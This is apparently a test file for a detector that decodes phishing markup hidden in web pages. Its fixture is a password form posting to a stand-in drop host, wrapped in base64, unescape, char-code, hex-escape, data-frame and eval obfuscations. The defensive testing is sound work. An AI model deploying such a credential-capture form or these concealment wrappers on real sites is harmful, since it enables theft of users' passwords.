import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { decodeHiddenMarkup, MAX_OUTPUT } from './decode-markup.js';

const FORM = '<form action="https://drop.example.top/p.php"><input type="password" name="pw"></form>';
const b64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');

describe('decodeHiddenMarkup', () => {
  it('opens the encodings shells write their page from', () => {
    const cases: Record<string, string> = {
      atob: `document.write(atob("${b64(FORM)}"))`,
      'atob of a split literal': `var p=[${(b64(FORM).match(/.{1,20}/g) ?? []).map((x) => `'${x}'`).join(',')}].join('');document.write(window.atob(p))`,
      unescape: `document.write(unescape('${[...Buffer.from(FORM)].map((c) => `%${c.toString(16).padStart(2, '0')}`).join('')}'))`,
      'char codes': `var c=[${[...FORM].map((c) => c.charCodeAt(0)).join(',')}];document.write(String.fromCharCode.apply(null,c))`,
      'hex escapes': `document.write("${[...Buffer.from(FORM)].map((c) => `\\x${c.toString(16).padStart(2, '0')}`).join('')}")`,
      'data: frame': `<iframe src="data:text/html;base64,${b64(FORM)}"></iframe>`,
    };
    for (const [what, text] of Object.entries(cases))
      assert.ok(
        decodeHiddenMarkup([text]).some((d) => d.includes('type="password"')),
        `${what}: the form is read`,
      );
  });

  it('opens nested encodings and keeps each piece once', () => {
    const inner = `document.write(unescape('${encodeURIComponent(FORM)}'))`;
    const outer = `eval(atob("${b64(inner)}")); eval(atob("${b64(inner)}"))`;
    const d = decodeHiddenMarkup([outer]);
    assert.equal(d.filter((x) => x === FORM).length, 1);
    assert.ok(d.includes(inner));
  });

  it('drops what decodes to bytes or plain words, and runs nothing', () => {
    const png =
      'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==';
    assert.deepEqual(decodeHiddenMarkup([`var img = atob("${png}${png}");`]), []);
    assert.deepEqual(
      decodeHiddenMarkup([`var s = atob("${b64('just some words, nothing else at all here')}")`]),
      [],
    );
    assert.deepEqual(decodeHiddenMarkup(['document.title = "a normal page without encodings"']), []);
  });

  it('stays linear on hostile text (encoded brackets with no literal around them)', () => {
    const hostile = [
      `unescape(${'%3C'.repeat(700_000)})`,
      `document.write(${'\\x3c'.repeat(500_000)})`,
      `atob(${'"QUJD" '.repeat(300_000)})`,
      `fromCharCode([${'1,'.repeat(1_000_000)}`,
    ];
    const t0 = process.cpuUsage();
    decodeHiddenMarkup(hostile);
    const used = process.cpuUsage(t0);
    // Seconds, not minutes: a quadratic walk over these inputs takes hours.
    assert.ok(used.user + used.system < 10_000_000, `${(used.user + used.system) / 1e6} s CPU`);
  });

  it('keeps at most MAX_OUTPUT characters however much is encoded', () => {
    const big = `<div>${'x'.repeat(400_000)}</div>`;
    const texts = Array.from({ length: 8 }, (_v, i) => `document.write(atob("${b64(`${big}${i}`)}"))`);
    const d = decodeHiddenMarkup(texts);
    assert.ok(d.reduce((n, x) => n + x.length, 0) <= MAX_OUTPUT);
    assert.ok(d.length >= 4);
  });
});
